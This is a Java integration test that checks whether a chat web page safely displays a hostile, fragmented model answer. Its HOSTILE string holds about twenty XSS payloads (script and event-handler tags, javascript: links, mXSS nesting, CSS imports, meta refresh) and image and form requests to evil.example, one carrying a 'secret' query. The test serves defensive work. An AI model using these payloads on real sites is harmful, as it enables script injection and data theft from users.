package dev.verbatim.browser;

import static org.assertj.core.api.Assertions.assertThat;

import dev.verbatim.boot.Gateway;
import dev.verbatim.browser.ChatPage.Shown;
import dev.verbatim.testing.Gateways;
import dev.verbatim.testing.ReplayProvider;
import dev.verbatim.testing.ReplayProvider.Response;
import dev.verbatim.testing.TestPostgres;
import io.vertx.core.Vertx;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** An answer that attacks the page, in pieces that tear its tags: nothing runs, nothing is loaded, and its words are shown. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileAnswerIT {
    private static final int LONGEST_PIECE = 3;
    private static final String HOSTILE = String.join(
            "\n\n",
            "<script>window.ran=1</script> one",
            "<img src=x onerror=window.ran=2> two",
            "<svg/onload=window.ran=3> <svg><script>window.ran=3</script></svg> three",
            "<iframe srcdoc=\"<script>parent.ran=4</script>\"></iframe> four",
            "[five](javascript:window.ran=5) [five](java\tscript:window.ran=5) [five](&#106;avascript:window.ran=5)",
            "[six](data:text/html,<script>window.ran=6</script>) <javascript:window.ran=6>",
            "![seven](https://evil.example/?q=secret) ![seven](//evil.example/x.png)",
            "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style> eight",
            "<link rel=stylesheet href=https://evil.example/z.css><base href=https://evil.example/> nine",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=10&gt;\"> ten",
            "<form action=https://evil.example/><input name=q><button>Press</button></form> eleven",
            "[twelve](https://example.org/\"onmouseover=\"window.ran=12) [twelve]: https://x.example/ 'a\"onclick=\"window.ran=12'",
            "<details open ontoggle=window.ran=13><summary>thirteen</summary></details>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"> fourteen",
            "<noscript><p title=\"</noscript><img src=x onerror=window.ran=15>\"> fifteen",
            "<video><source onerror=window.ran=16></video><object data=https://evil.example/o></object> sixteen",
            "```html\n<script>window.ran=17</script>\n```",
            "| a | b |\n| --- | --- |\n| <img src=x onerror=window.ran=18> | `<b onclick=window.ran=18>` |",
            "eighteen and the end");

    private final Vertx vertx = Vertx.vertx();
    private ReplayProvider provider;
    private Gateway gateway;
    private Browser browser;

    @BeforeAll
    void start() {
        provider = ReplayProvider.start(vertx).await();
        provider.prepare("hostile", Response.openAi(pieces(), 1));
        Map<String, String> environment = Map.of(
                "OPENAI_API_KEY", "key-of-the-tests",
                "OPENAI_BASE_URL", provider.baseUrl(),
                "OPENAI_MODEL", "hostile");
        gateway = Gateways.on(TestPostgres.freshDatabase(), environment);
        browser = Browser.start();
    }

    private static List<String> pieces() {
        List<String> pieces = new ArrayList<>();
        for (int from = 0; from < HOSTILE.length(); ) {
            int to = Math.min(HOSTILE.length(), from + 1 + pieces.size() % LONGEST_PIECE);
            pieces.add(HOSTILE.substring(from, to));
            from = to;
        }
        return pieces;
    }

    @AfterAll
    void stop() {
        browser.close();
        gateway.close();
        provider.close();
        vertx.close().await();
    }

    @Test
    void nothingRunsAndNothingIsLoaded() {
        ChatPage page = ChatPage.open(browser, gateway.chatUrl());
        String reply = page.ask("<img src=x onerror=window.ran=100> hello");

        Shown answer = page.awaitStatus(reply, "complete");
        browser.screenshot("hostile-answer");

        assertThat(answer.length()).isEqualTo(HOSTILE.length());
        assertThat(answer.words()).contains("<script>window.ran=1</script>", "eighteen and the end");
        assertHarmless(page);
        page.reload();
        assertThat(page.awaitStatus(reply, "complete")).isEqualTo(answer);
        assertHarmless(page);
        aViolationWouldHaveBeenSeen(page);
    }

    private void assertHarmless(ChatPage page) {
        assertThat(page.run("return window.ran")).isNull();
        assertThat(page.run("return location.href")).isEqualTo(gateway.chatUrl() + "/");
        List<?> targets = (List<?>)
                page.run(
                        "return [...document.querySelectorAll('article a[href]')].map(a => a.href).filter(h => !/^https?:/.test(h))");
        assertThat(targets).isEmpty();
        Object active = page.run("return [...document.querySelectorAll("
                + "'article :is(script, img, iframe, style, link, form, input, object, video, svg, math, base, meta)')]"
                + ".filter(found => !found.closest('button.icon')).length");
        assertThat(active).isEqualTo(0L);
        assertThat(browser.console()).noneMatch(line -> line.contains("Content Security Policy"));
        assertThat(browser.console()).noneMatch(line -> line.startsWith("SEVERE") && !line.contains("/api/rooms "));
        String own = gateway.chatUrl().getAuthority();
        assertThat(browser.requests()).isNotEmpty().allMatch(url -> url.contains("//" + own + "/"));
    }

    private void aViolationWouldHaveBeenSeen(ChatPage page) {
        page.run("new Image().src = 'https://evil.example/control'");

        ChatPage.until(() -> browser.console().stream().anyMatch(line -> line.contains("Content Security Policy")));
    }
}
